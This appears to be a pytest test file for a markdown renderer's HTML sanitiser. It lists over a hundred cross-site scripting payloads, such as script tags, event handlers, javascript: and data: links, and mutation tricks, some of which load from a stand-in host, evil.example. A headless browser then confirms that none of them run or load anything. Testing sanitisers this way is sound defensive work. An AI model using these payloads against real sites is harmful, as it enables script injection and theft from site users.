"""A hundred ways to put script into a page, through the renderer, and read by a real browser's own parser.

The browser also runs what it reads: with no Content-Security-Policy to help, no vector may call `alert`.
"""

import pytest

from guides.markdown import ATTRIBUTES, CLASSES, TAGS, MarkdownError, render_body, render_inline

VECTORS = [
    # Elements that run, load or restyle.
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script src=//evil.example/x.js></script>",
    "<script >alert(1)</script >",
    "<script/x>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script\n>alert(1)</script\n>",
    "<script>alert(1)",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<svg><a xlink:href=javascript:alert(1)><text x=20 y=20>x</text></a>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><use href=data:image/svg+xml;base64,PHN2Zz4= />",
    "<svg><foreignObject><iframe onload=alert(1)></foreignObject></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)'",
    "<img src=`x`onerror=alert(1)>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img/src/onerror=alert(1)>",
    "<img src=1 href=1 onerror=\"javascript:alert(1)\"></img>",
    "<image src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe onload=alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<video><source onerror=alert(1)></video>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<body onload=alert(1)>",
    "<body background=javascript:alert(1)>",
    "<html onclick=alert(1)>",
    "<frameset onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<dialog open onclose=alert(1)>x</dialog>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<base href=javascript:alert(1)//>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=data:text/html,x>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noembed><img title=\"</noembed><img src onerror=alert(1)>\"></noembed>",
    "<xmp><p title=\"</xmp><img src onerror=alert(1)>\"></xmp>",
    "<title><p title=\"</title><img src onerror=alert(1)>\"></title>",
    "<template><script>alert(1)</script></template>",
    "<table background=javascript:alert(1)><td>x</table>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<plaintext><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=1?><script>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY y '<script>alert(1)</script>'>]>&y;",
    # Attributes on elements that are allowed.
    '<a href="/x/" onclick="alert(1)" style="color:red" class="button" id="main" target="_blank">x</a>',
    "<p onmouseover=alert(1) style=position:fixed;inset:0>x</p>",
    "<td data-label=x onclick=alert(1)>x</td>",
    "<em accesskey=x tabindex=1 contenteditable onfocus=alert(1)>x</em>",
    "<section id=x aria-labelledby=y popover onbeforetoggle=alert(1)>x</section>",
    "<ol start=1 type=javascript:alert(1)><li>x</ol>",
    '<a href="java&#115;cript:alert(1)">x</a>',
    '<a href="java&Tab;script:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#1;javascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="blob:https://evil.example/x">x</a>',
    '<a href="filesystem:https://evil.example/x">x</a>',
    '<a href="view-source:javascript:alert(1)">x</a>',
    '<a href="/x/" ping="https://evil.example/">x</a>',
    # Markdown's own links, images, references and code.
    "[x](javascript:alert(1))",
    "[x](JavaScript:alert(1) 'title')",
    "[x](<javascript:alert(1)>)",
    "[x](java&#x73;cript:alert(1))",
    "[x](java%73cript:alert(1))",
    "[x](\u0001javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[y]: javascript:alert(1)\n\n[y]",
    '[x](/x/ "\\" onmouseover=alert(1) x=\\"")',
    '[x](/x/"onmouseover=alert(1))',
    "![x](x\"onerror=alert(1))",
    "![x](javascript:alert(1))",
    "![\"onerror=\"alert(1)](x)",
    "<javascript:alert(1)>",
    "<https://evil.example/\"onmouseover=alert(1)>",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "``` html onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    # Attribute lists, and the site's own blocks and tokens.
    '## x {onclick="alert(1)" style="position:fixed"}',
    "## x { #main onfocus=alert(1) autofocus tabindex=0 }",
    "[x](/x/){: href=javascript:alert(1) }",
    "x\n{: onclick=alert(1) }",
    "## <img src=x onerror=alert(1)>",
    "## x {data-toc-label='<img src=x onerror=alert(1)>'}",
    "| a<script>alert(1)</script> |\n| - |\n| <img src=x onerror=alert(1)> |",
    "x\n: <svg onload=alert(1)>",
    "/// note | <img src=x onerror=alert(1)>\nwords\n///",
    '/// question | "><script>alert(1)</script>\nwords\n///',
    '/// try-this | x" onclick="alert(1)\n    time: <script>alert(1)</script>\n\nwords\n///',
    "/// template | x\n    file: x\n\n<script>alert(1)</script>\n///",
    "==<script>alert(1)</script>==",
    '<site-figure name="x" onclick="alert(1)"></site-figure>',
    '<site-call-to-action name="x" heading="<script>alert(1)</script>"></site-call-to-action>',
    "\x02klzzwxh:0000\x03<script>alert(1)</script>\x02wzxhzdk:0\x03",
]  # fmt: skip

READ = """(html) => {
    window.alerts = 0;
    window.alert = () => { window.alerts += 1; };
    // Read once as a document of its own, where nothing runs, and once alive in this page.
    const still = new DOMParser().parseFromString(html, 'text/html');
    const holder = document.createElement('div');
    document.body.append(holder);
    holder.innerHTML = html;
    for (const link of holder.querySelectorAll('a')) link.dispatchEvent(new MouseEvent('mouseover', {bubbles: true}));
    return [...still.head.children, ...still.body.querySelectorAll('*')].map((element) => ({
        tag: element.localName,
        space: element.namespaceURI,
        attributes: Object.fromEntries([...element.attributes].map((one) => [one.name, one.value])),
        scheme: element.hasAttribute('href') ? new URL(element.getAttribute('href'), document.baseURI).protocol : '',
    }));
}"""


@pytest.fixture(scope="module")
def chromium(browser):
    """An empty page of no site that notes what it is asked to load."""
    page = browser.new_page()
    asked = []
    page.route("**/*", lambda route: (asked.append(route.request.url), route.abort()))
    page.set_content("<!doctype html><base href='https://example.org/guide/'><body></body>")
    page.asked = asked
    yield page
    page.close()


@pytest.fixture(autouse=True)
def _sanitiser_alone(monkeypatch):
    """HTML left open is refused in words; here it must be harmless all the same."""
    monkeypatch.setattr("guides.markdown.problems_of_html", lambda body: [])


def rendered(vector: str) -> list[str]:
    """What the two renderers make of it; a refusal in words makes nothing."""
    results = []
    for render in (lambda: render_body(vector, ["x"], ["x"]).html, lambda: render_inline(vector)):
        try:
            results.append(render())
        except MarkdownError:
            results.append("")
    return results


def test_there_are_a_hundred_and_each_is_another():
    assert len(set(VECTORS)) == len(VECTORS) >= 100


@pytest.mark.browser
def test_no_vector_runs_loads_or_restyles_anything(chromium):
    for vector in VECTORS:
        for html in rendered(vector):
            for element in chromium.evaluate(READ, html):
                told = f"{vector!r} became {html!r}"
                assert element["tag"] in TAGS, told
                assert element["space"] == "http://www.w3.org/1999/xhtml", told
                assert set(element["attributes"]) <= ATTRIBUTES.get(element["tag"], set()) | {"class"}, told
                assert set(element["attributes"].get("class", "").split()) <= CLASSES.get(element["tag"], set()), told
                assert element["scheme"] in ("", "https:", "http:", "mailto:"), told
            assert chromium.evaluate("window.alerts") == 0, vector
    assert chromium.asked == []
    chromium.wait_for_timeout(100)
    assert chromium.evaluate("window.alerts") == 0


@pytest.mark.browser
def test_the_browser_would_notice(chromium):
    """The same reading finds what a renderer that let everything pass would let pass."""
    noticed = [element["tag"] for element in chromium.evaluate(READ, "<img src=x onerror=alert(1)><svg></svg>")]
    assert noticed == ["img", "svg"]
    chromium.wait_for_function("window.alerts > 0")
    chromium.asked.clear()
